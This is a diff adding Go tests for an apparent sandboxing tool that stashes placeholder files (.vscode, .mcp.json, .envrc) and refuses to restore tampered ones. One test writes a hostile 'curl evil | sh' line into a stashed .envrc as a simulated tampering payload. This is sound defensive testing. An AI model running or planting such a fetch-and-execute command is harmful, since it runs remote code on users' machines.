@@ -8,6 +8,7 @@ import (
 	"path/filepath"
 	"reflect"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 
@@ -178,5 +179,130 @@ func TestPlaceholdersExcluded(t *testing.T) {
 	rel()
 	if after, _ := os.ReadFile(ex); string(after) != "# user's own\n*.log\n" {
 		t.Errorf("info/exclude after the run = %q", after)
+	}
+}
+
+// inode is the inode number of p, 0 when it does not exist.
+func inode(t *testing.T, p string) uint64 {
+	t.Helper()
+	fi, err := os.Lstat(p)
+	if err != nil {
+		return 0
+	}
+	return fi.Sys().(*syscall.Stat_t).Ino
+}
+
+// Placeholders are kept in the stash between runs and come back to the
+// same path: the second run creates no inode (the same ones return), the
+// workdir is clean after each run, and a stashed placeholder goes only to
+// the path it was made for.
+func TestPlaceholderStash(t *testing.T) {
+	root, _ := filepath.EvalSymlinks(t.TempDir())
+	w, v := filepath.Join(root, "w"), filepath.Join(root, "v")
+	for _, d := range []string{w, v} {
+		if err := os.MkdirAll(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	specFor := func(wd string) spec.Spec {
+		return spec.Spec{Workdir: wd, Allow: []string{wd}, StateDir: filepath.Join(root, "state", "agents", "x"),
+			Protected: []protect.Path{{Path: wd + "/.vscode", Dir: true}, {Path: wd + "/.mcp.json"}, {Path: wd + "/.envrc"}}}
+	}
+	names := []string{"/.vscode", "/.mcp.json", "/.envrc"}
+	run := func(wd string) map[string]uint64 {
+		t.Helper()
+		rel, err := ensureProtected(specFor(wd), &bytes.Buffer{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		got := map[string]uint64{}
+		for _, n := range names {
+			if got[n] = inode(t, wd+n); got[n] == 0 {
+				t.Errorf("no placeholder at %s", wd+n)
+			}
+		}
+		if b, _ := os.ReadFile(wd + "/.mcp.json"); string(b) != "{}\n" {
+			t.Errorf("%s/.mcp.json holds %q", wd, b)
+		}
+		rel()
+		for _, n := range names {
+			if inode(t, wd+n) != 0 {
+				t.Errorf("placeholder %s left after the run", wd+n)
+			}
+		}
+		return got
+	}
+	first := run(w)
+	second := run(w)
+	if !reflect.DeepEqual(first, second) {
+		t.Errorf("the second run made new placeholders %v, want the stashed %v", second, first)
+	}
+	other := run(v)
+	for _, n := range names {
+		if other[n] == first[n] {
+			t.Errorf("%s got the placeholder inode of %s", v+n, w+n)
+		}
+	}
+}
+
+// A stash slot that is not an empty placeholder (someone wrote to it) is
+// never moved into a project: a fresh placeholder is made, the slot is put
+// out of use, and a placeholder written during the run stays where it is.
+func TestPlaceholderStashTampered(t *testing.T) {
+	root, _ := filepath.EvalSymlinks(t.TempDir())
+	w := filepath.Join(root, "w")
+	if err := os.MkdirAll(w, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	s := spec.Spec{Workdir: w, Allow: []string{w}, StateDir: filepath.Join(root, "state", "agents", "x"),
+		Protected: []protect.Path{{Path: w + "/.vscode", Dir: true}, {Path: w + "/.envrc"}}}
+	rel, err := ensureProtected(s, &bytes.Buffer{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	rel()
+	stashDir := filepath.Join(root, "state", "protect", "stash")
+	dirSlot := filepath.Join(stashDir, slot(w+"/.vscode", true, ""))
+	fileSlot := filepath.Join(stashDir, slot(w+"/.envrc", false, ""))
+	if inode(t, dirSlot) == 0 || inode(t, fileSlot) == 0 {
+		t.Fatalf("nothing stashed in %s", stashDir)
+	}
+	if err := os.WriteFile(filepath.Join(dirSlot, "tasks.json"), []byte(`{"tasks":[]}`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(fileSlot, []byte("curl evil | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	rel, err = ensureProtected(s, &bytes.Buffer{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := os.Lstat(w + "/.vscode/tasks.json"); err == nil {
+		t.Errorf("a written stash directory was moved into the project")
+	}
+	if b, _ := os.ReadFile(w + "/.envrc"); len(b) != 0 {
+		t.Errorf("a written stash file was moved into the project: %q", b)
+	}
+	for _, p := range []string{dirSlot + ".bad", fileSlot + ".bad"} {
+		if inode(t, p) == 0 {
+			t.Errorf("the tampered slot %s was not put out of use", p)
+		}
+	}
+	// Written during the run: kept in the project, not stashed.
+	if err := os.WriteFile(w+"/.vscode/settings.json", []byte("{}"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	var warn bytes.Buffer
+	rel2, err := ensureProtected(s, &warn)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rel2()
+	rel()
+	if _, err := os.Lstat(w + "/.vscode/settings.json"); err != nil {
+		t.Errorf("a file written into a placeholder during the run was lost: %v", err)
+	}
+	if inode(t, dirSlot) != 0 {
+		t.Errorf("a placeholder with an entry was stashed")
 	}
 }
